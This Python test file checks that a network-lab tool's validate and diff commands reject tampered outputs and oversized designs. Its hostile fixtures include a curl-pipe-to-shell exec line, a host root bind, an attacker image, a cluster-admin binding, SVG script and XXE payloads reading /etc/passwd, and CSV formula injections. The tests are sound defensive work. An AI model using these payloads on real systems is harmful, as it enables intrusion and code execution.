"""Trust, round 2, without root: every file of an OUTDIR checked (the clabernetes manifest
rendered again, diff over every listed file), inputs read like design files, caps before
work, and the record allow-lists (docs/security.md)."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import time

import pytest

from railonly.cli import main
from railonly.emulation.runtime.netns import statefile
from railonly.fabric.outputs import clabernetes

from .conftest import ROUTED, compile_lab, unique


def run(capsys, *args) -> tuple[int, str, str]:
    rc = main(list(args))
    cap = capsys.readouterr()
    assert "Traceback" not in cap.err + cap.out, cap.err
    return rc, cap.out, cap.err


@pytest.fixture(scope="module")
def compiled(tmp_path_factory):
    return compile_lab(ROUTED, unique("f"), tmp_path_factory.mktemp("files") / "out")


@pytest.fixture
def copy(compiled, tmp_path):
    dst = tmp_path / "out"
    shutil.copytree(compiled, dst)
    return dst


def relist(out) -> None:
    """What a pull request does too: MANIFEST.json rewritten to match the edited files."""
    m = json.loads((out / "MANIFEST.json").read_text())
    for rel in m["files"]:
        m["files"][rel] = hashlib.sha256((out / rel).read_bytes()).hexdigest()
    (out / "MANIFEST.json").write_text(json.dumps(m, indent=1))


# --- the clabernetes manifest ---------------------------------------------------------------------

HOSTILE_K8S = """---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: pwn}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, name: default, namespace: default}]
"""


@pytest.mark.parametrize("edit", ["exec", "host-bind", "image", "cluster-admin"])
def test_an_edited_clabernetes_manifest_fails_validate_and_shows_in_diff(compiled, copy, capsys, edit):
    """Finding: an edited <name>.clabernetes.yaml passed validate and diff said nothing changed."""
    f = next(copy.glob("*.clabernetes.yaml"))
    text = f.read_text()
    if edit == "exec":
        text = text.replace("        exec:\n", "        exec:\n        - bash -c 'curl x | sh'\n", 1)
    elif edit == "host-bind":
        text = text.replace("        binds:\n", "        binds:\n        - /:/host\n", 1)
    elif edit == "image":
        text = text.replace("image: ", "image: evil.example/pwn:latest #", 1)
    else:
        text += HOSTILE_K8S
    assert text != f.read_text()
    f.write_text(text)
    relist(copy)  # MANIFEST.json agrees: only rendering the manifest again catches it
    rc, o, e = run(capsys, "validate", str(copy))
    assert rc == 1 and f"FAIL trust/{f.name}: {f.name}: line" in o, o + e
    rc, o, e = run(capsys, "diff", str(compiled), str(copy), "--no-diffs")
    assert rc == 1 and f"~ file {f.name}" in o, o + e


def test_the_compiled_manifest_passes(compiled, capsys):
    rc, o, e = run(capsys, "validate", str(compiled))
    assert rc == 0 and "0 failed" in o, o + e


def test_a_switch_too_large_for_one_configmap_leaves_the_manifest_out_with_a_note():
    """Finding: a valid radix-1024 design ended compile in an AssertionError (a 1.4 MB
    config_db.json does not fit one Kubernetes ConfigMap)."""
    clab = ("name: big\ntopology:\n  nodes:\n    leaf0:\n      kind: sonic-vs\n      binds:\n"
            "      - configs/leaf0/config_db.json:/etc/sonic/config_db.json\n")
    files = {"big.clab.yml": clab, "configs/leaf0/config_db.json": "x" * (1100 * 1024)}
    assert clabernetes.produce("big", files) == {}
    note = clabernetes.too_large("big", files)
    assert "big.clabernetes.yaml not written" in note and "--lab-domains" in note


# --- diff compares every file --------------------------------------------------------------------------


def test_diff_compares_every_listed_file_and_names_unknown_ones(compiled, copy, capsys):
    """Finding: diff ignored the clab file, fabric.json and the manifest, and printed escapes raw."""
    clab = next(copy.glob("*.clab.yml"))
    clab.write_text(clab.read_text() + "# edited\n")
    fab = json.loads((copy / "fabric.json").read_text())
    fab["nodes"][0]["note"] = "x"
    (copy / "fabric.json").write_text(json.dumps(fab))
    (copy / "README.md").unlink()
    (copy / "evil\x1b[2J.txt").write_text("\x1b]0;pwned\x07\n")
    rc, o, e = run(capsys, "diff", str(compiled), str(copy))
    assert rc == 1, o + e
    assert f"~ file {clab.name}" in o and "~ file fabric.json" in o
    assert "! file new:README.md" in o
    assert "? file new:evil\\x1b[2J.txt" in o and "\x1b" not in o
    rc, o, e = run(capsys, "diff", str(compiled), str(compiled))
    assert rc == 0 and "files:" not in o


def test_diff_escapes_control_characters_in_configs(compiled, copy, capsys):
    f = copy / "configs" / "rail0-leaf0" / "frr.conf"
    f.write_text(f.read_text() + "! \x1b[31mred\x1b[0m \u202e\n")
    rc, o, e = run(capsys, "diff", str(compiled), str(copy))
    assert rc == 1 and "\\x1b[31mred" in o and "\\u202e" in o and "\x1b" not in o and "\u202e" not in o


# --- inputs read like design files --------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["symlink", "fifo", "device", "huge"])
def test_push_inventory_is_read_like_a_design_file(compiled, tmp_path, capsys, kind):
    """Finding: push --inventory followed symlinks (its errors quoted the target) and hung on a FIFO."""
    pytest.importorskip("netmiko")
    inv = tmp_path / "inv.yml"
    secret = tmp_path / "secret.txt"
    secret.write_text("devices: {secret-token-4711: {host: 1}}\n")
    if kind == "symlink":
        inv.symlink_to(secret)
    elif kind == "fifo":
        os.mkfifo(inv)
    elif kind == "device":
        inv = "/dev/zero"
    else:
        inv.write_text("devices:\n" + "  d: {host: 192.0.2.1, platform: sonic}\n" * 1 + "#" * (17 << 20) + "\n")
    t = time.perf_counter()
    rc, o, e = run(capsys, "push", str(compiled), "--inventory", str(inv), "--timeout", "1")
    assert rc == 2 and str(inv) in e and time.perf_counter() - t < 10, o + e
    assert "secret-token-4711" not in o + e


# --- caps before work -------------------------------------------------------------------------------------


def test_a_huge_design_is_refused_before_any_work(tmp_path, capsys):
    """Finding: a schema-valid 512-million-GPU design grew past 2.9 GB."""
    d = tmp_path / "huge.yml"
    d.write_text("name: huge\nhb_domain: {size: 512, count: 1000000}\nswitch: {radix: 1024}\n")
    t = time.perf_counter()
    rc, o, e = run(capsys, "compile", str(d), "-o", str(tmp_path / "out"))
    assert rc == 2 and "RAILONLY_MAX_GPUS" in e and "512,000,000 GPUs" in e and "huge.yml:2" in e, e
    assert time.perf_counter() - t < 5 and not (tmp_path / "out").exists()


@pytest.mark.parametrize("command", [["bom"], ["bom", "--compare"], ["resilience"],
                                     ["analyze", "JOB", "--fail", "nic:0"]])
def test_every_command_that_builds_a_graph_holds_the_caps(command, tmp_path, capsys, monkeypatch):
    """Finding: bom, resilience and analyze --fail built the graph of any design, a 512-million-GPU
    one to 24 GB, where compile refused it at once."""
    d = tmp_path / "d.yml"
    d.write_text("name: capped\nhb_domain: {size: 8, count: 16}\nswitch: {radix: 8}\n")
    monkeypatch.setenv("RAILONLY_MAX_GPUS", "100")
    job = os.path.join(os.path.dirname(__file__), "..", "..", "labs", "jobs", "moe-mini.yml")
    args = [command[0], str(d)] + [job if a == "JOB" else a for a in command[1:]]
    rc, o, e = run(capsys, *args)
    assert rc == 2 and "RAILONLY_MAX_GPUS" in e and "128 GPUs" in e and "d.yml:2" in e, o + e


def test_a_sweep_over_the_point_cap_is_refused_before_any_work(tmp_path, capsys, monkeypatch):
    """Finding: 512 HB sizes x 5 cluster sizes x 511 radices (1.3 million clusters) ran for an
    hour without a word."""
    monkeypatch.setenv("RAILONLY_MAX_SWEEP_POINTS", "8")
    rc, o, e = run(capsys, "sweep", "--hb-sizes", "8,16,32", "--gpus", "1024", "--radix", "64,128,256",
                   "-o", str(tmp_path / "s"))
    assert rc == 2 and "3 x 1 x 3 = 9 clusters" in e and "RAILONLY_MAX_SWEEP_POINTS" in e, e
    assert not (tmp_path / "s").exists()


def test_the_gpu_cap_holds_for_the_planned_build_out(tmp_path, capsys, monkeypatch):
    """Finding: a small built part with hb_domain.planned of a million domains passed the cap
    and planned addresses for all of them before failing."""
    d = tmp_path / "d.yml"
    d.write_text("name: grow\nhb_domain: {size: 2, count: 4, planned: 100}\nswitch: {radix: 8}\n")
    monkeypatch.setenv("RAILONLY_MAX_GPUS", "100")
    rc, o, e = run(capsys, "compile", str(d), "-o", str(tmp_path / "out"))
    assert rc == 2 and "hb_domain.planned" in e and "build-out has 200 GPUs" in e and "RAILONLY_MAX_GPUS" in e, e
    assert not (tmp_path / "out").exists()


def test_the_switch_and_file_caps_name_their_variable(tmp_path, capsys, monkeypatch):
    d = tmp_path / "d.yml"
    d.write_text("name: capped\nhb_domain: {size: 8, count: 64}\nswitch: {radix: 8}\n")
    monkeypatch.setenv("RAILONLY_MAX_SWITCHES", "10")
    rc, o, e = run(capsys, "compile", str(d), "-o", str(tmp_path / "out"))
    assert rc == 2 and "RAILONLY_MAX_SWITCHES" in e and "switches" in e, e
    monkeypatch.delenv("RAILONLY_MAX_SWITCHES")
    monkeypatch.setenv("RAILONLY_MAX_FILES", "100")
    rc, o, e = run(capsys, "compile", str(d), "-o", str(tmp_path / "out"))
    assert rc == 2 and "RAILONLY_MAX_FILES" in e, e
    assert not (tmp_path / "out").exists()


def test_a_lab_over_the_node_cap_is_refused_before_planning(copy, capsys, monkeypatch):
    """Finding: a 12,480-node lab was planned without limit."""
    monkeypatch.setenv("RAILONLY_MAX_LAB_NODES", "4")
    rc, o, e = run(capsys, "lab", "deploy", str(copy), "--dry-run")
    assert rc == 2 and "RAILONLY_MAX_LAB_NODES" in e and ".clab.yml" in e and "--lab-domains" in e, e


def test_an_outdir_over_the_file_cap_is_refused_before_it_is_read(copy, capsys, monkeypatch):
    monkeypatch.setenv("RAILONLY_MAX_FILES", "10")
    rc, o, e = run(capsys, "validate", str(copy))
    assert rc == 2 and "RAILONLY_MAX_FILES" in e, o + e


# --- record allow-lists ------------------------------------------------------------------------------------

OWNER = statefile.Owner.for_lab("demo", {"clab-demo-leaf0"})


@pytest.mark.parametrize("entry", [
    {"key": "net.ipv4.neigh.default.gc_thresh3", "original": "999999999", "set": "4096"},  # above set: never ours
    {"key": "net.ipv4.neigh.default.gc_thresh3", "original": "1024", "set": "99999999"},  # above the cap
    {"key": "net.ipv4.neigh.default.gc_thresh3", "original": "１２", "set": "4096"},  # non-ASCII digits
    {"key": "net.ipv4.neigh.default.gc_thresh4", "original": "1", "set": "2"},
])
def test_only_a_gc_thresh_the_deploy_raised_is_ever_restored(entry):
    data = {"version": 1, "lab": "demo", "prefix": "clab-demo-", "namespaces": ["clab-demo-leaf0"],
            "root_sysctls": [entry]}
    ck = statefile.check(data, "s.json", OWNER)
    assert ck.state["root_sysctls"] == [] and any("root_sysctls[0]" in r for r in ck.refused)


def test_a_namespace_is_the_labs_only_by_exact_name():
    data = {"version": 1, "lab": "demo", "prefix": "clab-demo-",
            "namespaces": ["clab-demo-leaf0", "clab-demo-b-leaf0", "clab-demo-leaf0x"]}
    ck = statefile.check(data, "s.json", OWNER)
    assert ck.state["namespaces"] == ["clab-demo-leaf0"] and len(ck.refused) == 2


# --- ours: what a person opens must be inert -----------------------------------------------------------------


@pytest.mark.parametrize("rel, edit", [
    ("topology.svg", lambda t: t.replace("<rect ", "<script>fetch('//x')</script><rect ", 1)),
    ("topology.svg", lambda t: t.replace("<rect ", '<rect onload="alert(1)" ', 1)),
    ("topology.svg", lambda t: t.replace("<svg ", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ', 1)),
    ("topology.svg", lambda t: t.replace("</svg>", '<foreignObject><iframe src="//x"/></foreignObject></svg>', 1)),
    ("netbox_devices.csv", lambda t: t.replace("\n", '\n=HYPERLINK("http://x","y"),', 1)),
    ("cabling.csv", lambda t: t.replace("\n", "\n@SUM(1+1)*cmd|' /C calc'!A0,", 1)),
])
def test_a_drawing_or_table_that_could_run_fails_validate(copy, capsys, rel, edit):
    """Ours: a reviewer opens topology.svg in a browser and the CSVs in a spreadsheet; a pull
    request could make them run code there (and re-hash MANIFEST.json to match)."""
    f = copy / rel
    f.write_text(edit(f.read_text()))
    relist(copy)
    rc, o, e = run(capsys, "validate", str(copy))
    assert rc == 1 and f"FAIL trust/{rel}: {rel}:" in o, o + e
